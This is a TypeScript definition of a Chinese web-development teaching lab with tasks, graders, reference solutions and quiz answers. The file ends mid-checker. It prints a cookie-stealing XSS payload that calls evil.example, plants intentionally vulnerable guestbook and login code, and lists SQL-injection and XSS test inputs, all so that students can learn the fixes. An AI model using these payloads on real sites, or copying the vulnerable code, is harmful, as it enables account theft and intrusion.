import { block } from './block.ts'
import { httpCheck, pythonCheck } from './check-script.ts'
import type { DemoExperiment } from './types.ts'

/** Web: a semantic page, a static site on port 8080, a JSON API, script and SQL injection repaired, caching. */
export const webService: DemoExperiment = {
  key: 'web-service',
  title: 'Web 开发：从一张网页到一个安全的接口',
  summary: block`
        社团要招新，需要一个小网站：一张介绍页、一个报名接口、一块留言板。功能不难，难的是**做对**：
        屏幕阅读器能读、接口对错误的输入给出正确的状态码、留言板不会执行别人的脚本、登录不会被一个单引号绕过。

        本实验只用 HTML 与 Python 标准库，没有框架。等你日后用上框架，就会知道它在替你做什么。
  `,
  category: 'web-development',
  tags: ['HTML', 'REST', 'Web 安全', 'HTTP'],
  difficulty: 'medium',
  durationMinutes: 130,
  suite: { key: 'web-service-suite', title: 'Web 服务器单机环境', machines: [{ hostname: 'web', templateKey: 'web' }] },
  teachingGuide: block`
        **课时建议**：3 学时：网页与静态服务 1 学时，接口 1 学时，安全与缓存 1 学时。

        **主线**：每个环节都从"用户或攻击者会怎样用它"出发，而不是从语法出发。

        - 网页：请学员闭上眼睛，由同桌朗读自己的页面（只读标题、链接文字和图片的替代文字）。
        - 接口：让学员先写一张"请求 → 状态码"的表，再写代码。
        - 安全：先演示攻击成功，再修复，最后演示攻击失败。**只在自己的实验环境里演示。**

        **常见困难**

        | 环节 | 现象 | 引导 |
        | --- | --- | --- |
        | 静态网站 | 关掉终端后服务就停了 | 解释 \`nohup\`、\`setsid\` 与进程组 |
        | 报名接口 | 返回 200 却在正文里写"错误" | 客户端程序看的是状态码，不是中文 |
        | 留言板 | 用 \`replace('<script>', '')\` 过滤 | 让他试 \`<img src=x onerror=…>\` |
        | 登录 | 把单引号替换掉就以为安全 | 参数化查询让数据永远不会变成代码 |
  `,
  sections: [
    {
      title: '一张好网页',
      steps: [
        {
          key: 'semantic-page',
          title: '任务：写一张谁都能用的网页',
          kind: 'task',
          points: 14,
          body: block`
                        ## 标签是有意义的

                        \`<div>\` 什么也没说。\`<nav>\`、\`<main>\`、\`<button>\` 告诉浏览器、搜索引擎和屏幕阅读器：这是导航，这是正文，这个可以按。

                        \`\`\`html
                        <!doctype html>
                        <html lang="zh-CN">
                          <head>
                            <meta charset="utf-8">
                            <meta name="viewport" content="width=device-width, initial-scale=1">
                            <title>天文社</title>
                          </head>
                          <body>
                            <header><nav><a href="#join">加入我们</a></nav></header>
                            <main>
                              <h1>天文社</h1>
                              <img src="moon.svg" alt="望远镜里的月面环形山">
                            </main>
                          </body>
                        </html>
                        \`\`\`

                        ## 任务

                        编写 \`~/site/index.html\`，内容自定，但要满足：

                        | 要求 | 为什么 |
                        | --- | --- |
                        | \`<!doctype html>\`、\`lang\`、\`charset\`、\`viewport\`、非空的 \`title\` | 正确显示中文、适应手机、朗读用对语言 |
                        | \`nav\`、\`main\`，恰好一个 \`h1\`，标题不跳级（h1 → h2 → h3） | 屏幕阅读器靠它们跳转 |
                        | 至少一张图片，每张都有 \`alt\`；引用的 \`logo.svg\` 已在目录里 | 看不到图的人也知道是什么 |
                        | 一个 \`form\`，\`method="post"\`，含 \`name="name"\` 和 \`type="email"\` 的输入框与提交按钮 | 下一节的接口会用到 |
                        | 每个输入框都有 \`label\`（\`for\` 对应 \`id\`，或把输入框包在 \`label\` 里） | 点文字也能选中，朗读时知道填什么 |

                        ## 常见错误

                        用 \`placeholder\` 代替 \`label\`：一开始输入，提示就消失了。
          `,
          hint: '表单可以这样写：`<label for="email">邮箱</label><input id="email" name="email" type="email">`。',
          hintCost: 3,
          setup: block`
                        mkdir -p ~/site
                        cat > ~/site/logo.svg <<'SVG'
                        <svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="28" fill="#fc6"/></svg>
                        SVG
          `,
          check: pythonCheck(block`
                        from html.parser import HTMLParser
                        text = read('site/index.html')

                        class Page(HTMLParser):
                            def __init__(self):
                                super().__init__()
                                self.tags, self.title, self.open = [], '', []
                            def handle_starttag(self, tag, attributes):
                                inside = list(self.open)
                                self.tags.append((tag, dict(attributes), inside))
                                if tag not in ('meta', 'img', 'input', 'br', 'link', 'hr'):
                                    self.open.append(tag)
                            def handle_endtag(self, tag):
                                while tag in self.open and self.open.pop() != tag:
                                    pass
                            def handle_data(self, data):
                                if self.open[-1:] == ['title']:
                                    self.title += data.strip()

                        page = Page()
                        page.feed(text)
                        find = lambda *names: [(tag, at, inside) for tag, at, inside in page.tags if tag in names]
                        metas = [at for _, at, _ in find('meta')]
                        levels = [int(tag[1]) for tag, _, _ in find('h1', 'h2', 'h3', 'h4', 'h5', 'h6')]
                        images, forms = [at for _, at, _ in find('img')], [at for _, at, _ in find('form')]
                        inputs = [(at, inside) for _, at, inside in find('input', 'textarea', 'select')
                                  if at.get('type', 'text') not in ('submit', 'hidden', 'button', 'reset')]
                        labels = {at.get('for') for _, at, _ in find('label')}
                        submit = any(at.get('type', 'submit') == 'submit' for _, at, _ in find('button')) or any(
                            at.get('type') == 'submit' for _, at, _ in find('input'))
                        judge([
                            (text.lstrip().lower().startswith('<!doctype html>'), '第一行应为 <!doctype html>'),
                            (any((at.get('lang') or '').lower().startswith('zh') for _, at, _ in find('html')), 'html 标签没有 lang="zh-CN"'),
                            (any((at.get('charset') or '').lower().replace('-', '') == 'utf8' for at in metas), '没有声明 charset 为 utf-8'),
                            (any(at.get('name') == 'viewport' and 'width=device-width' in (at.get('content') or '') for at in metas), '没有 viewport，手机上字会很小'),
                            (page.title, 'title 为空'),
                            (find('nav') and find('main'), '缺少 nav 或 main'),
                            (levels.count(1) == 1, f'应当恰好有一个 h1，现在有 {levels.count(1)} 个'),
                            (levels[:1] == [1] and all(b - a <= 1 for a, b in zip(levels, levels[1:])), f'标题跳级了：{" → ".join(f"h{n}" for n in levels)}'),
                            (images and all((at.get('alt') or '').strip() for at in images), '没有图片，或有图片缺少 alt'),
                            (all((HOME / 'site' / (at.get('src') or '?')).is_file() for at in images if '//' not in (at.get('src') or '')), '有图片的 src 指向不存在的文件'),
                            (any((at.get('method') or '').lower() == 'post' for at in forms), '没有 method="post" 的表单'),
                            (any(at.get('name') == 'name' for at, _ in inputs), '表单里没有 name="name" 的输入框'),
                            (any(at.get('type') == 'email' for at, _ in inputs), '表单里没有 type="email" 的输入框'),
                            (inputs and all('label' in inside or at.get('id') in labels - {None} for at, inside in inputs), '有输入框没有对应的 label'),
                            (submit, '没有提交按钮'),
                        ], '通过：这张网页谁都能用')
          `),
          solve: block`
                        cat > ~/site/index.html <<'HTML'
                        <!doctype html>
                        <html lang="zh-CN">
                          <head>
                            <meta charset="utf-8">
                            <meta name="viewport" content="width=device-width, initial-scale=1">
                            <title>天文社招新</title>
                          </head>
                          <body>
                            <header><nav><a href="#join">加入我们</a></nav></header>
                            <main>
                              <h1>天文社</h1>
                              <img src="logo.svg" alt="社徽：一轮金色的圆月" width="64" height="64">
                              <h2 id="join">加入我们</h2>
                              <form method="post" action="/api/members">
                                <label for="name">姓名</label> <input id="name" name="name" required>
                                <label for="email">邮箱</label> <input id="email" name="email" type="email" required>
                                <button type="submit">报名</button>
                              </form>
                            </main>
                          </body>
                        </html>
                        HTML
          `,
        },
        {
          key: 'serve-site',
          title: '任务：让网站上线',
          kind: 'task',
          points: 10,
          body: block`
                        ## 文件怎样变成网页

                        Web 服务器监听一个端口，把路径对应到文件，并用 \`Content-Type\` 告诉浏览器这是什么。标准库自带一个：

                        \`\`\`bash
                        cd ~/demo && python3 -m http.server 9000
                        \`\`\`

                        它会占住终端；关掉终端，服务也就停了。要让它留在后台，并且与终端脱离关系：

                        \`\`\`bash
                        setsid nohup 命令 > ~/server.log 2>&1 < /dev/null &
                        \`\`\`

                        | 片段 | 作用 |
                        | --- | --- |
                        | \`setsid\` | 新开一个会话，不随终端结束 |
                        | \`> 文件 2>&1\` | 输出写进日志，出错时有据可查 |
                        | \`&\` | 放到后台 |

                        ## 任务

                        在 **8080** 端口提供 \`~/site\`，使得：

                        - \`http://web:8080/\` 返回你的网页，状态码 200；
                        - \`http://web:8080/logo.svg\` 的类型是 \`image/svg+xml\`；
                        - 不存在的路径返回 404；
                        - 不泄露 \`~/site\` 以外的文件。

                        成功后，可以在环境的网页入口里看到自己的网站。

                        ## 常见错误

                        - 在家目录启动：\`~/.bash_history\` 也成了公开文件。用 \`--directory\` 指定目录。
                        - \`Address already in use\`：端口被占用，用 \`ss -ltnp\` 看看是谁。
          `,
          hint: '`python3 -m http.server 8080 --directory ~/site`，前后配上 `setsid nohup … &`。',
          hintCost: 2,
          check: httpCheck(block`
                        GET http://web:8080/
                        expect status 200
                        expect header content-type text/html
                        expect body <h1

                        GET http://web:8080/logo.svg
                        expect status 200
                        expect header content-type image/svg+xml

                        GET http://web:8080/no-such-page
                        expect status 404

                        GET http://web:8080/site/index.html
                        expect status 404
          `),
          solve: block`
                        setsid nohup python3 -m http.server 8080 --directory ~/site > ~/server.log 2>&1 < /dev/null &
                        for attempt in $(seq 50); do curl -s -o /dev/null http://web:8080/ && exit 0; sleep 0.1; done
                        exit 1
          `,
        },
        {
          key: 'quiz-status',
          title: '想一想：该用哪个状态码',
          kind: 'question',
          points: 5,
          body: block`
                        下一个任务里，你要写一个报名接口。它收到了一个格式正确的 JSON：

                        \`\`\`json
                        { "name": "李晓雨", "email": "abc" }
                        \`\`\`

                        其中的邮箱不合法。最合适的状态码是哪一个？
          `,
          answer: 'B。',
          question: {
            type: 'single',
            options: ['200，正文写明错误', '400，说明哪个字段不对', '404，因为没有这个邮箱', '500，服务器处理失败'],
            answer: ['B'],
            analysis:
              '4xx 表示请求方需要改正，5xx 表示服务器自己出错。用 200 包装错误会让客户端、监控和缓存都以为成功了。400（或 422）加上字段名，调用者才知道怎么改。',
          },
        },
      ],
    },
    {
      title: '一个讲道理的接口',
      steps: [
        {
          key: 'members-api',
          title: '任务：报名接口',
          kind: 'task',
          points: 20,
          body: block`
                        ## 先写约定

                        | 请求 | 成功 | 失败 |
                        | --- | --- | --- |
                        | \`GET /api/members\` | 200，\`{"members": [...]}\`，按报名先后 | |
                        | \`POST /api/members\` | 201，返回新成员 \`{"id": 1, "name": …, "email": …}\`，响应头 \`Location: /api/members/1\` | 不是 JSON，或缺少 \`name\`、\`email\`（须为非空文字，邮箱要含 \`@\`）：400 |
                        | \`GET /api/members/1\` | 200，返回该成员 | 没有：404 |
                        | \`DELETE /api/members/1\` | 204，没有正文 | 没有：404 |
                        | 其他路径 | | 404 |

                        - 响应都是 \`application/json\`，错误为 \`{"error": "说明"}\`；
                        - \`id\` 从 1 递增，删除后**不重用**；
                        - 同一邮箱重复报名：409。

                        ## 例子：标准库的接口骨架

                        \`\`\`python
                        import json
                        import sys
                        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


                        class Handler(BaseHTTPRequestHandler):
                            def reply(self, status, value=None, headers=()):
                                body = b'' if value is None else json.dumps(value, ensure_ascii=False).encode()
                                self.send_response(status)
                                if body:
                                    self.send_header('Content-Type', 'application/json; charset=utf-8')
                                    self.send_header('Content-Length', str(len(body)))
                                for name, text in headers:
                                    self.send_header(name, text)
                                self.end_headers()
                                self.wfile.write(body)

                            def do_GET(self):
                                self.reply(200, {'path': self.path})


                        ThreadingHTTPServer(('0.0.0.0', int(sys.argv[1])), Handler).serve_forever()
                        \`\`\`

                        读取请求体：\`self.rfile.read(int(self.headers.get('Content-Length') or 0))\`。

                        ## 任务

                        编写 \`~/api.py\`，用法 \`python3 api.py 端口\`，数据放在内存里即可。检查程序会在随机端口启动它。

                        \`\`\`console
                        $ python3 ~/api.py 9000 &
                        $ curl -i -d '{"name":"李晓雨","email":"xiaoyu@example.edu.cn"}' http://web:9000/api/members
                        HTTP/1.0 201 Created
                        Location: /api/members/1
                        \`\`\`

                        ## 常见错误

                        \`json.loads\` 之后直接 \`data['name']\`：如果正文是 \`[1, 2]\` 或 \`"你好"\`，程序会抛异常，客户端只看到连接断开。
          `,
          hint: '用字典 `members = {}` 和计数器保存；校验时先判断 `isinstance(data, dict)`。',
          hintCost: 4,
          check: pythonCheck(
            block`
                        import random, time, urllib.error, urllib.request
                        read('api.py')
                        port = random.randint(20000, 40000)
                        log = open('/tmp/api-check.log', 'w+')
                        process = subprocess.Popen(['python3', 'api.py', str(port)], cwd=HOME, stdin=subprocess.DEVNULL, stdout=log, stderr=log)

                        def stop(message, score=0.0):
                            process.kill()
                            fail(message, score)

                        def call(method, path, body=None):
                            data = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else None
                            request = urllib.request.Request(f'http://web:{port}{path}', method=method, data=data)
                            request.add_header('Content-Type', 'application/json')
                            try:
                                response = urllib.request.urlopen(request, timeout=3)
                            except urllib.error.HTTPError as error:
                                response = error
                            except (OSError, ValueError) as error:
                                log.seek(0)
                                stop(f'{method} {path} 没有得到响应：{tail(log.read(), 1) or error}', score)
                            text = response.read().decode('utf-8', 'replace')
                            try:
                                value = json.loads(text) if text else None
                            except ValueError:
                                stop(f'{method} {path} 的响应不是 JSON：{text[:60]}', score)
                            return response.status, value, response.headers

                        for _ in range(50):
                            try:
                                urllib.request.urlopen(f'http://web:{port}/', timeout=1)
                                break
                            except urllib.error.HTTPError:
                                break
                            except OSError:
                                if process.poll() is not None:
                                    log.seek(0)
                                    stop('api.py 启动后就退出了：' + tail(log.read(), 1))
                                time.sleep(0.1)

                        score, done = 0.0, 0
                        li, wang = {'name': '李晓雨', 'email': 'li@example.edu.cn'}, {'name': '王一', 'email': 'wang@example.edu.cn'}
                        plan = [
                            ('列表开始为空', 'GET', '/api/members', None, 200, {'members': []}),
                            ('报名', 'POST', '/api/members', li, 201, {'id': 1, **li}),
                            ('第二人报名', 'POST', '/api/members', wang, 201, {'id': 2, **wang}),
                            ('查一位成员', 'GET', '/api/members/1', None, 200, {'id': 1, **li}),
                            ('列表有两人', 'GET', '/api/members', None, 200, {'members': [{'id': 1, **li}, {'id': 2, **wang}]}),
                            ('正文不是 JSON', 'POST', '/api/members', b'{name:', 400, 'error'),
                            ('正文是 JSON 列表', 'POST', '/api/members', [1, 2], 400, 'error'),
                            ('缺少邮箱', 'POST', '/api/members', {'name': '甲'}, 400, 'error'),
                            ('邮箱不含 @', 'POST', '/api/members', {'name': '甲', 'email': 'abc'}, 400, 'error'),
                            ('姓名是数字', 'POST', '/api/members', {'name': 5, 'email': 'a@b.cn'}, 400, 'error'),
                            ('姓名全是空格', 'POST', '/api/members', {'name': '  ', 'email': 'a@b.cn'}, 400, 'error'),
                            ('邮箱重复', 'POST', '/api/members', {'name': '乙', 'email': 'li@example.edu.cn'}, 409, 'error'),
                            ('没有这位成员', 'GET', '/api/members/99', None, 404, 'error'),
                            ('编号不是数字', 'GET', '/api/members/abc', None, 404, 'error'),
                            ('其他路径', 'GET', '/nothing', None, 404, 'error'),
                            ('删除', 'DELETE', '/api/members/2', None, 204, None),
                            ('再删一次', 'DELETE', '/api/members/2', None, 404, 'error'),
                            ('编号不重用', 'POST', '/api/members', {'name': '丙', 'email': 'c@example.edu.cn'}, 201, {'id': 3, 'name': '丙', 'email': 'c@example.edu.cn'}),
                        ]
                        for what, method, path, body, status, wanted in plan:
                            got, value, headers = call(method, path, body)
                            if got != status:
                                stop(f'{what}：{method} {path} 应返回 {status}，实际为 {got}', score)
                            if wanted == 'error' and not (isinstance(value, dict) and value.get('error')):
                                stop(f'{what}：错误响应应为 {{"error": "说明"}}，实际为 {value}', score)
                            if wanted != 'error' and value != wanted:
                                stop(f'{what}：正文应为 {wanted}，实际为 {value}', score)
                            if status == 201 and headers.get('Location') != f'/api/members/{wanted["id"]}':
                                stop(f'{what}：响应头 Location 应为 /api/members/{wanted["id"]}，实际为 {headers.get("Location")}', score)
                            if status != 204 and 'application/json' not in (headers.get('Content-Type') or ''):
                                stop(f'{what}：Content-Type 应为 application/json', score)
                            done += 1
                            score = done / len(plan) * 0.9
                        process.kill()
                        print(f'通过：{len(plan)} 个请求都得到了应有的回应')
          `,
            30,
          ),
          solve: block`
                        cat > ~/api.py <<'PY'
                        import json
                        import re
                        import sys
                        import threading
                        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

                        members, counter, lock = {}, 0, threading.Lock()


                        class Handler(BaseHTTPRequestHandler):
                            def reply(self, status, value=None, headers=()):
                                body = b'' if value is None else json.dumps(value, ensure_ascii=False).encode()
                                self.send_response(status)
                                if body:
                                    self.send_header('Content-Type', 'application/json; charset=utf-8')
                                    self.send_header('Content-Length', str(len(body)))
                                for name, text in headers:
                                    self.send_header(name, text)
                                self.end_headers()
                                self.wfile.write(body)

                            def member_id(self):
                                found = re.fullmatch(r'/api/members/(\d+)', self.path)
                                return int(found[1]) if found else None

                            def do_GET(self):
                                if self.path == '/api/members':
                                    self.reply(200, {'members': list(members.values())})
                                elif self.member_id() in members:
                                    self.reply(200, members[self.member_id()])
                                else:
                                    self.reply(404, {'error': '没有找到'})

                            def do_POST(self):
                                global counter
                                raw = self.rfile.read(int(self.headers.get('Content-Length') or 0))
                                if self.path != '/api/members':
                                    return self.reply(404, {'error': '没有找到'})
                                try:
                                    data = json.loads(raw)
                                except ValueError:
                                    return self.reply(400, {'error': '请求体不是合法的 JSON'})
                                if not isinstance(data, dict):
                                    return self.reply(400, {'error': '请求体应为 JSON 对象'})
                                name, email = data.get('name'), data.get('email')
                                if not isinstance(name, str) or not name.strip():
                                    return self.reply(400, {'error': 'name 不能为空'})
                                if not isinstance(email, str) or '@' not in email:
                                    return self.reply(400, {'error': 'email 不是合法的邮箱'})
                                with lock:
                                    if any(member['email'] == email for member in members.values()):
                                        return self.reply(409, {'error': '这个邮箱已经报过名'})
                                    counter += 1
                                    members[counter] = {'id': counter, 'name': name, 'email': email}
                                self.reply(201, members[counter], [('Location', f'/api/members/{counter}')])

                            def do_DELETE(self):
                                if members.pop(self.member_id(), None):
                                    self.reply(204)
                                else:
                                    self.reply(404, {'error': '没有找到'})


                        ThreadingHTTPServer(('0.0.0.0', int(sys.argv[1])), Handler).serve_forever()
                        PY
          `,
        },
        {
          key: 'quiz-idempotent',
          title: '想一想：重试会不会出事',
          kind: 'question',
          points: 5,
          body: block`
                        网络不稳，客户端没有收到响应，于是自动**重发同一个请求**。按照 HTTP 的约定，下面哪些方法重发是安全的，
                        即执行多次与执行一次的效果相同（幂等）？（多选）
          `,
          answer: 'A、C、D。',
          question: {
            type: 'multiple',
            options: ['GET', 'POST', 'PUT', 'DELETE'],
            answer: ['A', 'C', 'D'],
            analysis:
              'PUT 是"设为这个值"，DELETE 是"使之不存在"，重复执行的最终状态相同（第二次 DELETE 返回 404 也不影响）。POST 是"新增一个"，重发可能产生两条记录，需要靠唯一约束或幂等键防止。',
          },
        },
      ],
    },
    {
      title: '安全与缓存',
      steps: [
        {
          key: 'stop-script-injection',
          title: '任务：堵住留言板的脚本注入',
          kind: 'task',
          points: 12,
          body: block`
                        ## 攻击是怎样发生的

                        留言板把用户输入**直接拼进** HTML。攻击者留言：

                        \`\`\`html
                        <img src=x onerror="fetch('//evil.example/?'+document.cookie)">
                        \`\`\`

                        之后每一位访客的浏览器都会执行它，这就是**存储型 XSS**。

                        ## 唯一可靠的办法：输出时转义

                        把有特殊含义的字符换成实体，浏览器就只会把它们**显示**出来：

                        | 字符 | \`<\` | \`>\` | \`&\` | \`"\` | \`'\` |
                        | --- | --- | --- | --- | --- | --- |
                        | 实体 | \`&lt;\` | \`&gt;\` | \`&amp;\` | \`&quot;\` | \`&#x27;\` |

                        \`\`\`python
                        >>> import html
                        >>> html.escape('<b title="x">')
                        '&lt;b title=&quot;x&quot;&gt;'
                        \`\`\`

                        删除 \`<script>\` 这样的"过滤"总有漏网之鱼：大小写、事件属性、套娃（\`<scr<script>ipt>\`）……

                        ## 任务

                        \`~/guestbook.py\` 的 \`render(messages)\` 有漏洞。请修复，使得：

                        - 任何昵称和留言都**原样显示**（不丢字符），但不会成为标签或属性；
                        - 页面结构不变：每条留言一个 \`<li title="昵称">留言</li>\`；
                        - 留言里的换行显示为 \`<br>\`（这是页面自己加的标签，要保留）。

                        \`\`\`bash
                        cat ~/guestbook.py
                        python3 -c "from guestbook import render; print(render([('小明', '1 < 2')]))"
                        \`\`\`
          `,
          hint: '先 `html.escape(text)`（默认连引号一起转义），再 `.replace("\\n", "<br>")`，顺序不能反。',
          hintCost: 2,
          setup: block`
                        cat > ~/guestbook.py <<'PY'
                        """留言板的页面。"""


                        def render(messages):
                            items = []
                            for nickname, text in messages:
                                safe = text.replace('<script>', '').replace('\n', '<br>')
                                items.append(f'<li title="{nickname}">{safe}</li>')
                            return '<ul>\n' + '\n'.join(items) + '\n</ul>'
                        PY
          `,
          check: pythonCheck(block`
                        import textwrap
                        from html.parser import HTMLParser
                        read('guestbook.py')
                        cases = [('小明', '你好，世界'), ('甲', '1 < 2 && 3 > 2'), ('攻击者', '<img src=x onerror=alert(1)>'),
                                 ('乙" onmouseover="alert(1)', '昵称里有引号'), ("丙' x='", "It's \"ok\""), ('丁', '第一行\n<script>alert(2)</script>\n第三行'),
                                 ('戊', '&lt;已经转义过的文字&gt;'), ('己', '<scr<script>ipt>alert(3)</script>'), ('</li><h1>', '</ul>')]
                        harness = textwrap.dedent('''
                        import json, sys
                        from guestbook import render
                        print(json.dumps(render([tuple(pair) for pair in json.loads(sys.argv[1])])))
                        ''')

                        class Board(HTMLParser):
                            def __init__(self):
                                super().__init__()
                                self.items, self.bad = [], None
                            def handle_starttag(self, tag, attributes):
                                if tag == 'li':
                                    if [name for name, _ in attributes] != ['title']:
                                        self.bad = self.bad or 'li 出现了 title 以外的属性：' + '、'.join(name for name, _ in attributes if name != 'title')
                                    self.items.append([dict(attributes).get('title'), ''])
                                elif tag == 'br' and self.items:
                                    self.items[-1][1] += '\n'
                                elif tag != 'ul':
                                    self.bad = self.bad or f'页面里出现了标签 <{tag}>，攻击仍然成立'
                            def handle_data(self, data):
                                if self.items and data.strip('\n'):
                                    self.items[-1][1] += data

                        good, first = 0, None
                        for case in cases:
                            result = run(['python3', '-c', harness, json.dumps([case])], cwd=HOME)
                            if result.returncode != 0:
                                fail('render 出错：' + tail(result.stderr, 1))
                            board = Board()
                            board.feed(json.loads(result.stdout.splitlines()[-1]))
                            problem = board.bad
                            if not problem and board.items != [list(case)]:
                                problem = f'显示成了 {board.items[0] if board.items else "（空）"}，丢失或改变了字符'
                            if problem is None:
                                good += 1
                            elif first is None:
                                first = f'昵称 {case[0]!r}、留言 {case[1]!r}：{problem}'
                        if first:
                            fail(f'{good}/{len(cases)} 条留言安全。{first}', 0 if good < 4 else good / len(cases) * 0.8)
                        print('通过：怎样留言都只是文字')
          `),
          solve: block`
                        cat > ~/guestbook.py <<'PY'
                        """留言板的页面。"""
                        from html import escape


                        def render(messages):
                            items = []
                            for nickname, text in messages:
                                safe = escape(text).replace('\n', '<br>')
                                items.append(f'<li title="{escape(nickname)}">{safe}</li>')
                            return '<ul>\n' + '\n'.join(items) + '\n</ul>'
                        PY
          `,
        },
        {
          key: 'stop-sql-injection',
          title: '任务：一个单引号引发的登录',
          kind: 'task',
          points: 12,
          body: block`
                        ## 数据变成了代码

                        \`~/login.py\` 用字符串拼接构造查询：

                        \`\`\`python
                        sql = f"SELECT id FROM users WHERE name = '{name}' AND password_hash = '{digest}'"
                        \`\`\`

                        如果用户名填 \`admin' --\`，查询就变成：

                        \`\`\`sql
                        SELECT id FROM users WHERE name = 'admin' --' AND password_hash = '…'
                        \`\`\`

                        \`--\` 之后是注释，密码根本没有被检查。先亲手试一次：

                        \`\`\`console
                        $ python3 ~/login.py "admin' --" 随便
                        登录成功：1
                        \`\`\`

                        ## 参数化查询

                        让驱动把**语句**和**数据**分开传递，数据里有什么字符都只是数据：

                        \`\`\`python
                        cursor.execute('SELECT id FROM users WHERE email = ?', (email,))
                        \`\`\`

                        ## 任务

                        修复 \`~/login.py\` 中的 \`login(database, name, password)\`：

                        - 正确的用户名和密码返回用户编号，否则返回 \`None\`；
                        - 任何注入都不能登录，也不能让程序报错；
                        - 名字里带单引号的正常用户（如 \`O'Neil\`）必须能登录；
                        - 表结构和密码摘要的算法不变。

                        ## 常见错误

                        删掉或替换单引号：\`O'Neil\` 从此无法登录，而攻击者还有别的办法。
          `,
          hint: '只需把 SQL 里的两处改成 `?`，并把两个值作为元组传给 execute。',
          hintCost: 2,
          setup: block`
                        cat > ~/login.py <<'PY'
                        """登录：python3 login.py 用户名 密码"""
                        import hashlib
                        import sqlite3
                        import sys


                        def digest_of(password):
                            return hashlib.sha256(f'club:{password}'.encode()).hexdigest()


                        def login(database, name, password):
                            digest = digest_of(password)
                            sql = f"SELECT id FROM users WHERE name = '{name}' AND password_hash = '{digest}'"
                            row = database.execute(sql).fetchone()
                            return row[0] if row else None


                        def demo_database():
                            database = sqlite3.connect(':memory:')
                            database.execute('CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT, password_hash TEXT)')
                            for name, password in (('admin', 'star-2026'), ("O'Neil", 'moon'), ('李晓雨', '北斗')):
                                database.execute('INSERT INTO users (name, password_hash) VALUES (?, ?)', (name, digest_of(password)))
                            return database


                        if __name__ == '__main__':
                            user = login(demo_database(), sys.argv[1], sys.argv[2])
                            print(f'登录成功：{user}' if user else '用户名或密码不正确')
                        PY
          `,
          check: pythonCheck(block`
                        import textwrap
                        read('login.py')
                        harness = textwrap.dedent('''
                        import hashlib, json, sqlite3, sys
                        from login import login
                        for name, password in json.loads(sys.argv[1]):
                            database = sqlite3.connect(':memory:')
                            database.execute('CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT, password_hash TEXT)')
                            for user, secret in (('admin', 'x9'), ("O'Neil", "m'oon"), ('王"一"', '北斗')):
                                digest = hashlib.sha256(f'club:{secret}'.encode()).hexdigest()
                                database.execute('INSERT INTO users (name, password_hash) VALUES (?, ?)', (user, digest))
                            try:
                                got = login(database, name, password)
                                if database.execute('SELECT COUNT(*) FROM users').fetchone()[0] != 3:
                                    got = '数据被改动'
                            except Exception as error:
                                got = type(error).__name__ + ': ' + str(error)
                            print(json.dumps(got))
                        ''')
                        cases = [('正确的密码', 'admin', 'x9', 1), ('错误的密码', 'admin', 'x8', None), ('没有这个用户', 'nobody', 'x9', None),
                                 ('名字带单引号的用户', "O'Neil", "m'oon", 2), ('名字带双引号的用户', '王"一"', '北斗', 3),
                                 ('注释注入', "admin' --", '随便', None), ('永真注入', "' OR '1'='1", "x", None),
                                 ('联合注入', "' UNION SELECT 1 --", 'x', None), ('堆叠注入', "x'; DROP TABLE users; --", 'x', None), ('孤单的引号', "'", "'", None)]
                        result = run(['python3', '-c', harness, json.dumps([case[1:3] for case in cases])], cwd=HOME)
                        lines = result.stdout.splitlines()
                        if len(lines) != len(cases):
                            fail('login.py 无法导入或自己打印了内容：' + (tail(result.stderr, 1) or result.stdout[:60]))
                        wrong = [(what, json.loads(line), wanted) for (what, _, _, wanted), line in zip(cases, lines) if json.loads(line) != wanted]
                        if wrong:
                            what, got, wanted = wrong[0]
                            score = max(0, (len(cases) - len(wrong) - 4) / 6 * 0.8)
                            fail(f'{len(cases) - len(wrong)}/{len(cases)} 种情形正确。{what}：应返回 {wanted}，实际为 {got}', score)
                        print('通过：注入全部失败，正常用户都能登录')
          `),
          solve: block`
                        python3 - <<'PY'
                        from pathlib import Path
                        path = Path.home() / 'login.py'
                        text = path.read_text(encoding='utf-8')
                        old = '''    sql = f"SELECT id FROM users WHERE name = '{name}' AND password_hash = '{digest}'"
                            row = database.execute(sql).fetchone()'''
                        new = '''    sql = 'SELECT id FROM users WHERE name = ? AND password_hash = ?'
                            row = database.execute(sql, (name, digest)).fetchone()'''
                        fixed = text.replace(old, new)
                        assert fixed != text
                        path.write_text(fixed, encoding='utf-8')
                        PY
          `,
        },
        {
          key: 'http-cache',
          title: '任务：没有变化就不必重传',
          kind: 'task',
          points: 12,
          body: block`
                        ## 条件请求

                        浏览器第一次取得资源时记下 \`ETag\`（内容的指纹）。下次带着它来问：变了吗？

                        \`\`\`mermaid
                        sequenceDiagram
                          浏览器->>服务器: GET /schedule
                          服务器-->>浏览器: 200，ETag: "a1b2"，正文 40 KB
                          浏览器->>服务器: GET /schedule，If-None-Match: "a1b2"
                          服务器-->>浏览器: 304，没有正文
                        \`\`\`

                        ## 任务

                        编写 \`~/cached.py\`，提供函数 \`respond(content, request_headers)\`：

                        - \`content\` 是字节串，\`request_headers\` 是字典，键已转为小写；
                        - 返回三元组 \`(状态码, 响应头字典, 正文字节)\`；
                        - 正常返回 200，响应头含 \`ETag\`（带双引号，由**内容**计算，内容相同则相同）、\`Cache-Control: no-cache\` 与 \`Content-Length\`；
                        - 请求带 \`if-none-match\`，且其中**任意一个**标签与当前 \`ETag\` 相同（或为 \`*\`）时，返回 304，正文为空，仍带 \`ETag\`；
                        - 标签以逗号分隔，可能有空格，也可能带弱校验前缀 \`W/\`，比较时忽略该前缀。

                        \`\`\`python
                        >>> status, headers, body = respond(b'hello', {})
                        >>> status, headers['ETag'] == '"' + headers['ETag'].strip('"') + '"'
                        (200, True)
                        >>> respond(b'hello', {'if-none-match': headers['ETag']})[0]
                        304
                        \`\`\`

                        ## 常见错误

                        - 用 \`hash(content)\` 计算：Python 每次启动的结果都不同，应当用 \`hashlib\`。
                        - \`no-cache\` 的意思是"每次使用前先来问一问"，不是"不缓存"（那是 \`no-store\`）。
          `,
          hint: '标签列表：`[tag.strip().removeprefix("W/") for tag in value.split(",")]`。',
          hintCost: 2,
          check: pythonCheck(block`
                        import textwrap
                        read('cached.py')
                        harness = textwrap.dedent('''
                        import json, sys
                        from cached import respond
                        def show(content, headers):
                            try:
                                status, got, body = respond(content, headers)
                                return [status, {str(k).lower(): str(v) for k, v in got.items()}, len(body), body == content]
                            except Exception as error:
